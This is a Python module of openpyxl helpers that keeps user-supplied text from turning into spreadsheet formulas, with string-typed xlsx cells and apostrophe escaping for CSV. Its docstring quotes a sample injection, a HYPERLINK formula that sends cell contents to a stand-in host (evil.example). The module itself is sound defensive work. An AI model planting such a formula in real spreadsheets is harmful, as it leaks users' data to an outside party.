"""Cells are data, never formulas: how a text from a user or an admin enters a spreadsheet.

A roster name or a KBK name such as ``=HYPERLINK("http://evil.example/?d="&B3,"Buka")``
must reach Excel as the text it is. In xlsx every text is written as a string cell
(openpyxl ``data_type`` ``"s"``, never ``"f"``); in CSV a cell that a spreadsheet would read
as a formula gets a leading apostrophe (the OWASP advice for CSV injection).
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date

from openpyxl.cell.cell import Cell, MergedCell
from openpyxl.worksheet.worksheet import Worksheet

CellValue = str | int | float | date | None
"""A date (or datetime) is written as a date cell."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make Excel, LibreOffice or Google Sheets read a CSV cell as a formula."""


def put(sheet: Worksheet, row: int, column: int, value: CellValue) -> Cell | MergedCell:
    """Write ``value`` at (``row``, ``column``): numbers as numbers, any text as a string."""
    cell = sheet.cell(row=row, column=column)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would take a leading "=" for a formula
    return cell


def put_row(sheet: Worksheet, row: int, values: Iterable[CellValue]) -> list[Cell | MergedCell]:
    """Write ``values`` into row ``row`` from column A (see :func:`put`)."""
    return [put(sheet, row, column, value) for column, value in enumerate(values, start=1)]


def csv_text(value: str) -> str:
    """``value`` made safe for a CSV cell: a leading apostrophe before a formula start."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value
